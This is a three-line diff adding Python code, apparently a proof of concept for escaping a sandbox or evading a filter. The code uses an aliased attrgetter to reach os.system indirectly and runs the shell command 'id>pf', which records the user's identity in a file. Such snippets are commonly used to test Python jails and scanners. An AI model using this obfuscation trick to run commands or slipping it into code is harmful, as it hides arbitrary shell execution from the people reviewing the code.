@@ -1,0 +1,3 @@
+from _operator import attrgetter as a
+import os
+a("system")(os)("id>pf")
